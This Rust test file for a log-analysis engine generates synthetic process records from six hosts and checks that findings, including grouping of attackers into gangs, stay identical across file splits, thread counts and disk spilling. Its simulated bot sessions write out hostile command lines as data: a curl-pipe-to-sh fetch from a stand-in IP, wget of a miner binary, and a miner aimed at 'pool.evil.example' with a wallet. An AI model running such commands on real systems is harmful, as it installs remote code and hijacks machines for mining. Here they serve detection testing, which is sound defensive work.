//! The same records give the same findings, byte for byte: however they are cut into files, in whatever order those
//! come, on any number of threads, in memory or spilled to disk.
#![allow(clippy::unwrap_used, reason = "helpers of tests")]

mod common;

use std::path::PathBuf;

use common::Run;
use ringleader_engine::collect::{Quiet, collect};
use ringleader_engine::sources::Input;
use ringleader_model::Rows;
use ringleader_model::findings::{Findings, SourceSummary};

/// Small, deterministic, seeded: xorshift.
struct Dice(u64);

impl Dice {
    fn roll(&mut self, below: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        usize::try_from(self.0 % below as u64).unwrap()
    }
    fn shuffle<T>(&mut self, list: &mut [T]) {
        for at in (1..list.len()).rev() {
            list.swap(at, self.roll(at + 1));
        }
    }
}

/// Writes lines with rising times on one host.
struct Host<'a> {
    name: String,
    at: u64,
    next_pid: u32,
    lines: &'a mut Vec<String>,
}

impl Host<'_> {
    fn start(&mut self, cmd_line: &str, parent: u32, parent_name: &str) -> u32 {
        self.at += 7;
        self.next_pid += 1;
        let (secs, pid) = (self.at / 10, self.next_pid);
        let time =
            format!("2019-11-04 {:02}:{:02}:{:02}.{}", secs / 3600 % 24, secs / 60 % 60, secs % 60, self.at % 10);
        let id = format!("{}-{pid}", self.name);
        self.lines.push(common::line(&id, &time, &self.name, cmd_line, pid, parent, parent_name));
        pid
    }

    fn session(&mut self) -> u32 {
        let sshd = self.start("/usr/sbin/sshd -R", 1, "/usr/sbin/sshd");
        self.start("/bin/bash", sshd, "/usr/sbin/sshd")
    }

    fn ordinary(&mut self, dice: &mut Dice) {
        const ORDINARY: &[&str] = &[
            "/bin/ls -l /var/log",
            "/usr/bin/df -h",
            "/bin/ps aux",
            "/usr/bin/uptime",
            "/usr/bin/tail -n 50 /var/log/syslog",
        ];
        match dice.roll(3) {
            0 => {
                let shell = self.session();
                for _ in 0..dice.roll(6) {
                    self.start(ORDINARY[dice.roll(ORDINARY.len())], shell, "/bin/bash");
                }
            }
            1 => {
                let cron = self.start("/usr/sbin/cron -f", 1, "/usr/sbin/cron");
                let sh = self.start("/bin/sh -c /usr/local/bin/backup.sh", cron, "/usr/sbin/cron");
                self.start("/usr/bin/rsync -a /srv /backup", sh, "/bin/sh");
            }
            _ => {
                self.start(ORDINARY[dice.roll(ORDINARY.len())], 1, "/sbin/init");
            }
        }
    }

    /// Three bots: two miners of one wallet from two servers, and a stranger.
    fn bot(&mut self, which: usize) {
        let shell = self.session();
        match which {
            2 => {
                let sh = self.start("/bin/sh -c curl -fsSL http://198.51.100.77/i.sh | sh", shell, "/bin/bash");
                self.start("/usr/bin/curl -fsSL http://198.51.100.77/i.sh", sh, "/bin/sh");
                let sh = self.start("/bin/sh", sh, "/bin/sh");
                self.start("/usr/bin/pkill -9 kinsing", sh, "/bin/sh");
                self.start("/bin/chmod 777 /var/tmp/.x", sh, "/bin/sh");
                self.start("/var/tmp/.x -c 198.51.100.77:6667", sh, "/bin/sh");
            }
            _ => {
                let server = ["203.0.113.5", "203.0.113.99"][which];
                let wallet =
                    "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";
                self.start(&format!("/usr/bin/wget -O /tmp/.m http://{server}/m"), shell, "/bin/bash");
                self.start("/bin/chmod +x /tmp/.m", shell, "/bin/bash");
                let miner = format!("/tmp/.m -o stratum+tcp://pool.evil.example:3333 -u {wallet} -p x");
                let miner = self.start(&miner, shell, "/bin/bash");
                self.start("/bin/rm -f /tmp/.m", miner, "/tmp/.m");
            }
        }
    }
}

/// About 3,000 records of six hosts, some of them lost, some broken.
fn records() -> Vec<String> {
    let mut dice = Dice(0x5eed);
    let mut lines = Vec::new();
    for host in 0..6 {
        let mut host = Host { name: format!("web{host}.example"), at: 300_000, next_pid: 1000, lines: &mut lines };
        for n in 0..140 {
            host.ordinary(&mut dice);
            if n % 40 == 20 {
                host.bot(dice.roll(3));
            }
        }
    }
    let mut kept: Vec<String> = lines.into_iter().filter(|_| dice.roll(20) > 0).collect();
    for n in 0..12 {
        kept.push(format!("{{\"id\":\"broken{n}\",\"time\":\"2019-1\n"));
        kept.push(common::line(&format!("never{n}"), "2019-09-31 08:00:00", "web1.example", "/bin/ls", 5, 1, "init"));
    }
    kept
}

/// Cuts into `n` files, each in shuffled order; one record in three is delivered twice.
fn files(records: &[String], n: usize, seed: u64) -> (tempfile::TempDir, Vec<PathBuf>) {
    let mut dice = Dice(seed);
    let mut texts = vec![Vec::new(); n];
    for (at, record) in records.iter().enumerate() {
        texts[dice.roll(n)].push(record);
        if at % 3 == 0 {
            texts[dice.roll(n)].push(record);
        }
    }
    let dir = tempfile::tempdir().unwrap();
    let mut paths = Vec::new();
    for (at, mut text) in texts.into_iter().enumerate() {
        dice.shuffle(&mut text);
        let path = dir.path().join(format!("part{at}.ndjson"));
        std::fs::write(&path, text.into_iter().map(String::as_str).collect::<String>()).unwrap();
        paths.push(path);
    }
    dice.shuffle(&mut paths);
    (dir, paths)
}

/// Takes out what may differ where the files themselves are cut differently: in which file, and where in it, a
/// record stood. Which sources there were is summed up to one.
fn without_places(run: Run) -> (Findings, Rows) {
    let (mut findings, mut rows) = (run.findings, run.rows);
    let all = SourceSummary { source: "all".into(), format: Some("plain_ndjson".into()), ..SourceSummary::default() };
    let sum = std::mem::take(&mut findings.summary.sources).into_iter().fold(all, |mut all, it| {
        assert_eq!(it.format, all.format);
        (all.read, all.rejected) = (all.read + it.read, all.rejected + it.rejected);
        for (why, n) in it.reasons {
            *all.reasons.entry(why).or_default() += n;
        }
        all
    });
    findings.summary.sources = vec![sum];
    for it in &mut rows.members {
        (it.source, it.offset) = ("".into(), 0);
    }
    for it in &mut rows.processes {
        (it.source, it.offset) = ("".into(), 0);
    }
    for it in &mut findings.evidence {
        (it.source, it.offset) = (Some("".into()), Some(0));
    }
    for it in &mut findings.rejected {
        (it.source, it.offset) = ("".into(), 0);
    }
    findings.rejected.sort_by(|a, b| (&a.reason, &a.record).cmp(&(&b.reason, &b.record)));
    (findings, rows)
}

#[track_caller]
fn same(a: (&Findings, &Rows), b: (&Findings, &Rows), what: &str) {
    let (a, b) = (common::written(a.0, a.1), common::written(b.0, b.1));
    assert_eq!(a.keys().collect::<Vec<_>>(), b.keys().collect::<Vec<_>>(), "{what}");
    for (file, bytes) in &a {
        let other = &b[file];
        if bytes != other {
            let at = bytes.iter().zip(other).position(|(a, b)| a != b).unwrap_or(bytes.len().min(other.len()));
            let near =
                |it: &[u8]| String::from_utf8_lossy(&it[at.saturating_sub(120)..(at + 120).min(it.len())]).into_owned();
            panic!("{what}: {file} differs at byte {at}:\n{}\n-- and --\n{}", near(bytes), near(other));
        }
    }
}

#[test]
fn the_gangs_are_there_at_all() {
    let (_dir, paths) = files(&records(), 3, 1);
    let findings = common::run_with(&paths, 2, 64 << 20).findings;
    let summary = &findings.summary;
    assert!((2500..6000).contains(&summary.events_read), "{}", summary.events_read);
    assert!(summary.events_duplicate > 800, "{}", summary.events_duplicate);
    assert!(summary.events_rejected >= 24, "{}", summary.events_rejected);
    assert_eq!(summary.hosts, 6);
    let values: Vec<Vec<String>> = findings
        .gangs
        .iter()
        .map(|it| it.who.indicators.values().flatten().map(|it| it.value.to_string()).collect())
        .collect();
    let of = |value: &str| values.iter().position(|it: &Vec<String>| it.iter().any(|it| it == value));
    let (a, b, c) = (of("203.0.113.5"), of("203.0.113.99"), of("198.51.100.77"));
    assert!(a.is_some() && a == b, "one wallet is one gang: {values:#?}");
    assert!(c.is_some() && a != c, "a stranger is another: {values:#?}");
}

#[test]
fn one_three_and_fifty_files_shuffled_on_one_and_four_threads() {
    let records = records();
    let (_dir, paths) = files(&records, 1, 9);
    let expect = without_places(common::run_with(&paths, 1, 64 << 20));
    for (n, threads, seed) in [(1, 4, 10), (3, 1, 11), (3, 4, 12), (50, 1, 13), (50, 4, 14)] {
        let (_dir, paths) = files(&records, n, seed);
        let got = without_places(common::run_with(&paths, threads, 64 << 20));
        same((&expect.0, &expect.1), (&got.0, &got.1), &format!("{n} files on {threads} threads"));
    }
}

/// Here the files are the same, so nothing at all may differ: not the place of a record, nor the order of sources.
#[test]
fn threads_and_spilling_change_no_byte() {
    let (_dir, paths) = files(&records(), 7, 21);
    let inputs: Vec<Input> = paths.iter().cloned().map(Input::Path).collect();
    let expect = common::run_with(&paths, 1, 64 << 20);
    for (threads, memory) in [(1, 64 << 10), (2, 64 << 20), (4, 64 << 20), (4, 64 << 10)] {
        let spilled = collect(&inputs, &common::collect_config(threads, memory), &Quiet).unwrap().store.spilled_bytes();
        assert_eq!(spilled > 0, memory < 1 << 20, "{spilled} bytes spilled with {memory} bytes of memory");
        for _ in 0..2 {
            let got = common::run_with(&paths, threads, memory);
            // Records that wait go to disk as well, and so do process events.
            let waited = [
                got.analyzed.records.spilled_bytes(),
                got.analyzed.processes.as_ref().map_or(0, |it| it.spilled_bytes()),
            ];
            assert!(waited.iter().all(|it| (*it > 0) == (memory < 1 << 20)), "{waited:?} with {memory} bytes");
            let what = format!("{threads} threads with {memory} bytes");
            same((&expect.findings, &expect.rows), (&got.findings, &got.rows), &what);
        }
    }
}

#[test]
fn a_file_delivered_twice_is_one_file() {
    let (_dir, paths) = files(&records(), 2, 31);
    let Run { findings: once, rows, .. } = common::run_with(&paths, 2, 64 << 20);
    let copy = paths[0].with_file_name("zz-again.ndjson");
    std::fs::copy(&paths[0], &copy).unwrap();
    let again = common::run_with(&[paths.clone(), vec![copy]].concat(), 2, 64 << 20);
    let twice = again.findings;
    let copied = &twice.summary.sources.iter().find(|it| it.source.ends_with("zz-again.ndjson")).unwrap();
    assert_eq!(twice.summary.events_duplicate, once.summary.events_duplicate + copied.read);
    let mut twice = twice.clone();
    twice.summary = once.summary.clone();
    twice.rejected.clone_from(&once.rejected);
    twice.run = once.run.clone();
    same((&once, &rows), (&twice, &again.rows), "a file twice");
}
